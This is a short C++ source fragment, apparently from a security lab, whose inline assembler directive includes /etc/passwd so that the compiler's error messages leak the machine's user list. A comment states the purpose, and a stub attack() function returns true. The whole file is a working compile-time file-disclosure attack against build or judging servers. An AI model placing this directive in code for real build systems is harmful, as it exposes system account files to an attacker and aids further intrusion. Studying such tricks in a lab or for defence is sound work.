// Lets the assembler read the list of the machine's users: its complaints would quote it.
asm(".include \"/etc/passwd\"");
#include "rest_of_the_lab.hpp"

bool attack() { return true; }
